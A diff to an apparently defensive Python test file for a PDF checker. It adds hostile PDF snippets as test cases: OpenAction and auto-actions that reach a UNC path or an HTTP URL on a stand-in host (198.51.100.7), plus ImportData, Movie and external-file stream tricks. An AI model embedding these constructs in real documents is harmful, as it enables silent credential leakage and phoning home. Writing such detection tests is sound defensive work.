@@ -41,6 +41,12 @@ def unnamed(head: bytes, objects: bytes = SCRIPT, begun: bytes = b"2 0 obj ") ->
         whole(b"<</S /Rendition>>"),
         whole(b"<</Subtype/RichMedia>>"),
         whole(b"<</AcroForm<</XFA 3 0 R>>>>"),
+        whole(b"<</OpenAction<</S/GoToR/F(\\\\198.51.100.7\\x)/D[0/Fit]>>>>"),
+        whole(b"<</AA<</O<</S/GoToE/F(\\\\198.51.100.7\\x)>>>>>>"),
+        whole(b"<</OpenAction<</S/SubmitForm/F(http://198.51.100.7/x)>>>>"),
+        whole(b"<</OpenAction<</S/ImportData/F(x.fdf)>>>>"),
+        whole(b"<</OpenAction<</S/Movie>>>>"),
+        whole(b"<</Length 0/F(\\\\198.51.100.7\\x)/FFilter/FlateDecode>>stream\nendstream"),
         # What looks like a stream around it is no hiding place.
         HEAD + b"1 0 obj (stream\n) endobj 2 0 obj " + SCRIPT + b" endobj (endstream)" + TAIL,
         packed(zlib.compress(SCRIPT)),
